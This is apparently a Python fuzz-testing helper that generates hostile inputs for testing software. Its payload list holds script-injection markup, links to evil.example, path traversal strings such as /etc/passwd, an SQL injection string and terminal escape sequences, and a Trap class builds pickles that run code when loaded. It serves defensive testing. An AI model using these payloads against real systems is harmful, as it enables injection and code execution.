"""Hostile texts and bytes: markup, links, escapes of terminals, marks of direction, paths, and pickles with code."""

from __future__ import annotations

from random import Random
from typing import Any

MARK = "window.__ran=1"
MARKUP = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f'"><svg onload="{MARK}">',
    f"'><b onmouseover='{MARK}'>",
    f"[Free](javascript:{MARK})",
    f"a` [Free](javascript:{MARK}) `b",
    f"![x](data:text/html,{MARK})",
    f"<javascript:{MARK}>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<!-- swallowed",
    "--> ]]> </noscript></textarea></title></table></script>",
    "{{ 7*7 }} {% raw %} {# c #}",
    f"word {{: onclick={MARK} }} {{ .lurk onclick={MARK} }}",
    "a](lurk:nope).png [b](lurk:nope)",
    "# 1. - | pipe | **bold** _it_ ~~del~~ https://evil.example www.evil.example a@evil.example",
    "```lurk",
    "<!-- lurk -->",
    "&lt;b&gt; &amp; \\<b>",
)
"""Markup, links and templates that would run code, load something, or swallow what follows."""
PAYLOADS = (
    *MARKUP,
    f"[x]: javascript:{MARK} 'title'",
    f"<a href='java&#10;script:{MARK}'>b</a>",
    f"<a href=' \tvbscript:{MARK}'>b</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<form action=//evil.example><input autofocus onfocus=x>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    f"<math><mtext></mtext><mglyph><style><img src onerror={MARK}></style></mglyph></math>",
    "<![CDATA[", "<?php ?>", "<lurk-gallery data-model=x>",
    "${7*7} #{7*7} <%= 7 %>",
    "~~~", "*[HTML]: x", "[^1]: note", "[TOC]", "!!! note",
    "--8<-- 'x'",
    "../../../escaped", "/etc/passwd", "C:\\Windows", "con", "aux.0", ".hidden", "index", "README.md", "results.json",
    "a/b", "a//b", "a\\b", "~root", "$HOME", "%2e%2e%2f", "lurk:small/features.0", "file:///etc/passwd",
    "\x1b[2J\x1b]0;title\x07", "\x1b[31m", "\r\n\r\n", "\n", "\t", "\x00", "\x08\x08", "\x7f", "\x85", "\u2028",
    "\u2029",
    "\u202e\u2066", "\ufeff", "\u200b\u200d", "\U000e0041", "e\u0301" * 20, "\ud83d\ude00", "\udcff", "\ud800",
    "\U0001f468\u200d\U0001f469",
    "&#x202e;", "null", "true", "1e999", "~", "- - -", "? : ! &a *a", "%s %n {0} {x.y}", "__proto__", "constructor",
    "'; DROP TABLE x; --", "NaN", "0", "-1", " ", "\u00a0", "\u3000",
)  # fmt: skip


def hostile_text(random: Random) -> str:
    """Return one to three payloads, among other characters."""
    kind = random.randrange(10)
    if kind == 0:
        return "".join(chr(_code_point(random)) for _ in range(random.randint(1, 40)))
    if kind == 1:
        return random.choice(
            ("a", "<", "[", "(", "*", "`", ">", "\u202e", "a ", "[a](", "<b>", "&", "- ")
        ) * random.choice((50, 3000))
    text = random.choice(("", " ", "\n", "x")).join(random.choice(PAYLOADS) for _ in range(random.randint(1, 3)))
    if random.random() < 0.3:
        place = random.randint(0, len(text))
        text = text[:place] + chr(_code_point(random)) + text[place:]
    return text


def _code_point(random: Random) -> int:
    end = random.choice((0x80, 0x300, 0x2100, 0x10000, 0x110000))
    return random.randrange(end)


class Trap:
    """A pickle that would run code."""

    def __init__(self, function: Any, *arguments: object) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def spoiled(data: bytes, random: Random) -> bytes:
    """Return bytes with a few of them flipped, removed, repeated, or put in."""
    changed = bytearray(data)
    for _ in range(random.choice((1, 1, 1, 2, 8))):
        at = random.randint(0, max(0, len(changed) - 1))
        length = random.choice((1, 1, 4, 64))
        kind = random.randrange(6)
        if kind == 0 and changed:
            changed[at] ^= 1 << random.randrange(8)
        elif kind == 1:
            del changed[at:]
        elif kind == 2:
            del changed[at : at + length]
        elif kind == 3:
            changed[at:at] = changed[at : at + length] * random.choice((1, 2, 200))
        elif kind == 4:
            changed[at : at + length] = random.choice((b"\x00", b"\xff", b"\x7f")) * length
        else:
            changed[at:at] = random.choice((b"[", b"{", b'"', b"\x1b[2J", b"../", b"<script>", b"9" * 400))
    return bytes(changed)


def yaml_text(text: str) -> str:
    """Return text as YAML in double quotes, on one line."""
    return (
        '"'
        + "".join(
            f"\\U{ord(letter):08x}" if not letter.isalnum() or not letter.isascii() else letter for letter in text
        )
        + '"'
    )
